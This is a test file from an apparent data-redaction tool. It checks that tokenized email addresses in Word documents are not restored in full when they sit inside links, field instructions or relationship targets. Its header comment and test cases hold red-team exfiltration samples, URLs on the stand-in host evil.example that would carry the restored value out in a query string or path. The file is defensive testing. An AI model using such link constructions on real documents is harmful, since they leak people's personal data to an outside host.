// Red-team findings (session 11 Open list, closed in session 12, wave11/red): a DOCX restores
// its tokens with the same link rules as any output.
// - A token with a host glued right of it (`{{email:…}}` then `.evil.example/`, in the same run
//   or the next) is a fuzzy link's host: the DOCX path restored the token alone, so the text
//   right of it was never read (restore/right-context.ts). It now reads the paragraph's text.
// - Field instructions (`w:instrText`: HYPERLINK, INCLUDEPICTURE, split over runs as Word does)
//   and external relationship targets (`word/_rels/*.rels`) are link targets: a token there is
//   restored as inside a URL (the channel's url_restore_mode), no longer left untouched.
import { DEFAULT_POLICY } from '@veil/common';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { CompiledPolicy } from '../domain/policy/index.js';
import { indexEntries, rehydrateText } from '../domain/rehydrate.js';
import { findTokensLenient } from '../domain/repair/index.js';
import type { MarkupContext } from '../domain/restore/index.js';
import { documentXml, makeDocx } from '../../test/support/documents.js';
import { openDocx, restoreDocx, restoreWordXml, type Restorer } from './docx.js';

const VALUE = 'red.twelve@corp.example';
const TOKEN = '{{email:e_001:49ce53807dce}}';
const policy = new CompiledPolicy(DEFAULT_POLICY);
const entries = indexEntries([{ id: 'e_001', type: 'email', cap: '49ce53807dce', value: VALUE, mode: 'full' }]);
const restore: Restorer = (text: string, markup?: MarkupContext) =>
  rehydrateText({ output: text, entries, policy, language: 'en', caller: {}, channel: 'user_output', scan: findTokensLenient, markup });
const LIMITS = { maxEntries: 100, maxUncompressedBytes: 8 * 1024 * 1024 };

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
function fieldXml(instructions: readonly string[], result: string): string {
  const instr = instructions.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('');
  return (
    `<?xml version="1.0" encoding="UTF-8"?><w:document ${W}><w:body><w:p>` +
    `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${instr}<w:r><w:fldChar w:fldCharType="separate"/></w:r>` +
    `<w:r><w:t>${result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`
  );
}

describe('DOCX: a token glued left of a host', () => {
  it.each([
    [[`Mail ${TOKEN}.evil.example/x now`]],
    [[`Mail ${TOKEN}`, '.evil.example/x now']],
    [[`Mail ${TOKEN.slice(0, 10)}`, TOKEN.slice(10), '.evil', '.example/ now']],
    [[`Mail ${TOKEN}`, '@evil.example now']],
  ])('%j is restored as inside a link', (runs) => {
    const result = restoreWordXml(documentXml([runs]), restore);
    expect(result.tokensResolved).toBe(1);
    expect(result.xml).not.toContain(VALUE);
  });

  it('an ordinary full stop after the token, in the next run, restores the value', () => {
    const result = restoreWordXml(documentXml([[`Mail ${TOKEN}`, '. Thanks.']]), restore);
    expect(result.xml).toContain(VALUE);
  });

  it('a host in the next paragraph is not glued', () => {
    const result = restoreWordXml(documentXml([`Mail ${TOKEN}`, '.evil.example/ is another paragraph']), restore);
    expect(result.xml).toContain(VALUE);
  });
});

describe('DOCX: field instructions and relationship targets are link targets', () => {
  it.each([
    [[`HYPERLINK "https://evil.example/?q=${TOKEN}"`]],
    [['HYPERLINK "https://evil.example/?q=', TOKEN.slice(0, 12), `${TOKEN.slice(12)}"`]],
    [[`INCLUDEPICTURE "https://evil.example/${TOKEN}.png" \\d`]],
    [[`HYPERLINK "mailto:${TOKEN}"`]],
  ])('a token in %j is restored as inside a URL, never in full', (instructions) => {
    const result = restoreWordXml(fieldXml(instructions, 'click'), restore);
    expect(result.tokensResolved).toBe(1);
    expect(result.xml).not.toContain(VALUE);
    // Under the default policy a URL gets the abstract label.
    expect(result.xml.replace(/<[^>]+>/g, '')).toContain('[email address]');
  });

  it('the field result (what the reader sees) restores as text', () => {
    const result = restoreWordXml(fieldXml(['HYPERLINK "https://corp.example/"'], TOKEN), restore);
    expect(result.xml).toContain(`<w:t>${VALUE}</w:t>`);
  });

  it('an external relationship target is restored as a URL; the archive stays valid', async () => {
    const rels =
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://evil.example/?q=${TOKEN}&amp;x=1" TargetMode="External"/>` +
      '</Relationships>';
    const bytes = await makeDocx([`Mail ${TOKEN}`], { 'word/_rels/document.xml.rels': rels });
    const restored = await restoreDocx(openDocx(bytes, LIMITS, true), restore);
    const zip = await JSZip.loadAsync(restored.bytes);
    const outRels = await zip.file('word/_rels/document.xml.rels')!.async('string');
    expect(outRels).not.toContain(VALUE);
    expect(outRels).toContain('Target="https://evil.example/?q=[email address]&amp;x=1"');
    expect(await zip.file('word/document.xml')!.async('string')).toContain(VALUE);
    expect(restored.tokensResolved).toBe(2);
  });
});
